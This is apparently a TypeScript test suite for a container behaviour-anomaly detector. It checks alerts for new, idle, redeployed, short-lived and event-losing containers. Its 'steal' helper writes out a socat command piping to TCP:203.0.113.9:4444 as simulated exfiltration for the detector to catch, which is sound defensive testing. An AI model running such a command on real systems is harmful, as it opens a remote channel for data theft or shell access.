import type { Alert } from '@picket/sdk';
import { beforeAll, describe, expect, it } from 'vitest';
import { BehaviourEngine } from './detection/anomaly/engine/behaviour-engine.ts';
import type { BehaviourProgram } from './detection/anomaly/engine/behaviour-program.ts';
import { EMPTY, learnedProgram } from './detection/anomaly/engine/testing/learned-program.ts';
import { PlayedShop, type ShopOptions } from './detection/anomaly/engine/testing/played-shop.ts';
import { loadRules } from './detection/rules/load/load-rules.ts';
import { RuleEngine } from './detection/rules/rule-engine.ts';
import { Partition } from './partition.ts';
import type { Batch } from './types.ts';

// What the handbook promises of containers that are new, short, idle, deployed anew, or seen badly.

const engine = new RuleEngine(loadRules([]));

function watch(program: () => BehaviourProgram) {
  const behaviour = new BehaviourEngine(program);
  const partition = new Partition(() => engine, { behaviour });
  const handle = (batches: readonly Batch[]): Alert[] => batches.flatMap((batch) => partition.handle(batch));
  return { behaviour, partition, handle };
}

let learned: BehaviourProgram;
/** The same program, but as a new image of the workload has it while it learns. */
let asPrior: BehaviourProgram;

beforeAll(() => {
  const { behaviour, handle } = watch(() => EMPTY);
  handle(new PlayedShop({ slots: [1, 2, 3], seed: 7 }).play(3900));
  learned = learnedProgram(behaviour.materials());
  asPrior = {
    ...learned,
    workloads: [
      ...learned.workloads,
      ...learned.workloads.map((live) => ({ ...live, digest: 'sha256:two', stage: 'learning' as const })),
    ],
  };
});

const open = (options: ShopOptions = {}, program: () => BehaviourProgram = () => learned) => ({
  shop: new PlayedShop({ node: 'node-b', slots: [1], seed: 99, ...options }),
  ...watch(program),
});
const steal = (shop: PlayedShop) => [
  shop.exec(1, 77, '/usr/bin/socat', ['socat', '-', 'TCP:203.0.113.9:4444']),
  shop.connect(1, 77, '203.0.113.9', 4444),
];
const ofRule = (alerts: readonly Alert[], rule: string) => alerts.filter((alert) => alert.rule === rule);

it('a container of a known workload is scored from its first minute on', () => {
  const { shop, handle, behaviour } = open();
  expect(handle(shop.play(30))).toEqual([]);
  expect(behaviour.stats.scored).toBeGreaterThanOrEqual(2);
  expect(ofRule(handle([...shop.play(1, () => steal(shop)), ...shop.play(3)]), 'Behaviour drift')).toHaveLength(1);
});

it('a flood of what is known is told by its score, with the amounts', () => {
  const { shop, handle } = open();
  handle(shop.play(60));
  const flood = () => Array.from({ length: 400 }, (_, i) => shop.open(1, 10, `/srv/pages/page${i % 3}.html`));
  const alerts = handle([...shop.play(30, flood), ...shop.play(5)]);
  const [alert] = ofRule(alerts, 'Unusual behaviour');
  expect(alert?.output).toMatch(/opens?|files/);
  expect(alert).toMatchObject({ process: null, explanation: expect.any(Array), detector: { id: 'behaviour-score' } });
  expect(alert?.evidence.events.length).toBeGreaterThanOrEqual(2);
});

describe('a deploy', () => {
  it('begins a workload of its own, and what the image before knows is at most a notice of learning', () => {
    const { shop, handle, behaviour } = open({ digest: 'sha256:two' }, () => asPrior);
    handle(shop.play(60));
    const alerts = handle([...shop.play(1, () => steal(shop)), ...shop.play(15)]);
    expect(alerts.length).toBeGreaterThan(0);
    for (const { priority, tags } of alerts) expect([priority, tags.includes('learning')]).toEqual(['Notice', true]);
    expect(behaviour.materials().map(({ digest }) => digest)).toEqual(['sha256:two']);
  });

  it('that nothing is known of tells nothing, and learns what it does', () => {
    const { shop, handle, behaviour } = open({ digest: 'sha256:three' });
    expect(handle(shop.play(120, (second) => (second % 60 === 3 ? steal(shop) : [])))).toEqual([]);
    expect(behaviour.stats).toMatchObject({ scored: 0 });
    expect(behaviour.stats.learned).toBeGreaterThan(8);
  });
});

it('an idle container tells nothing, and still what is new in it', () => {
  const { shop, handle } = open();
  handle(shop.play(30));
  expect(handle(Array.from({ length: 60 }, () => shop.pass(60)))).toEqual([]);
  expect(ofRule(handle([...shop.play(1, () => steal(shop)), ...shop.play(3)]), 'Behaviour drift')).toHaveLength(1);
});

it('runs of a short job are containers of one workload, seen from their first to their last second', () => {
  const { behaviour, handle } = watch(() => EMPTY);
  const shop = new PlayedShop({ slots: [1], seed: 3 });
  const jobs = Array.from({ length: 6 }, (_, i) => {
    const slot = 10 + i;
    const work = (second: number) => [
      ...(second % 40 === 0 ? [shop.started(slot, { name: `job-${i}`, image: 'registry.example/job:1' })] : []),
      shop.exec(slot, 500 + i, '/usr/bin/make', ['make', 'all']),
      shop.calls(slot, { 59: 3, 257: 40 }),
      ...(second % 40 === 38 ? [shop.stopped(slot)] : []),
    ];
    return shop.play(40, work);
  });
  handle(jobs.flat());
  handle(shop.play(70));
  const row = behaviour.materials().find(({ key }) => key.startsWith('job-'));
  expect(row?.key).toBe('job-*/registry.example/job');
  expect(behaviour.stats.learned).toBeGreaterThan(6 * 3);
});

it('where a third of the events is lost nothing is learned, weak scores are not told, and what is new is', () => {
  const { shop, handle, behaviour } = open();
  const lossy = (second: number) => (second % 3 === 0 ? [shop.lost(1, 20)] : []);
  const alerts = handle(shop.play(180, lossy));
  expect(ofRule(alerts, 'Unusual behaviour').filter(({ priority }) => priority === 'Notice')).toEqual([]);
  expect(behaviour.stats.learned).toBe(0);
  expect(behaviour.stats.refused.get('loss')).toBeGreaterThanOrEqual(17);
  const [drift] = ofRule(
    handle([...shop.play(1, (second) => [...steal(shop), ...lossy(second)]), ...shop.play(3, lossy)]),
    'Behaviour drift',
  );
  expect(drift?.evidence.lost).toEqual([expect.objectContaining({ kind: 'file.open' })]);
});

it('what is strange is not learned from one container, however often it does it', () => {
  const { shop, handle, behaviour } = open();
  handle(shop.play(60));
  const before = behaviour.stats.learned;
  const flood = () => Array.from({ length: 400 }, (_, i) => shop.open(1, 10, `/srv/pages/page${i % 3}.html`));
  handle(shop.play(300, flood));
  const { refused, learned: after } = behaviour.stats;
  const held = (refused.get('strange') ?? 0) + (refused.get('incident') ?? 0);
  expect(held).toBeGreaterThan((after - before) * 5);
});

it('rules see the score, the stage and whether a program is new', () => {
  const text = `
- rule: new and strange
  desc: test
  condition: evt.type = execve and picket.behaviour.stage = monitor and picket.behaviour.new = true and picket.behaviour.score >= 0
  output: "%proc.exepath %picket.behaviour.stage"
  priority: ERROR
- rule: not new
  desc: test
  condition: evt.type = execve and picket.behaviour.new = false
  output: "%proc.exepath"
  priority: DEBUG
`;
  const loaded = loadRules([{ name: 'test.yaml', text }]);
  expect(loaded.problems).toEqual([]);
  const rules = new RuleEngine(loaded);
  const partition = new Partition(() => rules, { behaviour: new BehaviourEngine(() => learned) });
  const shop = new PlayedShop({ node: 'node-b', slots: [1], seed: 4 });
  const alerts = [...shop.play(70), ...shop.play(1, () => steal(shop))].flatMap((batch) => partition.handle(batch));
  const outputs = (rule: string) => new Set(ofRule(alerts, rule).map(({ output }) => output));
  expect(outputs('new and strange')).toEqual(new Set(['/usr/bin/socat monitor']));
  expect(outputs('not new')).toEqual(new Set(['/usr/bin/curl']));
});
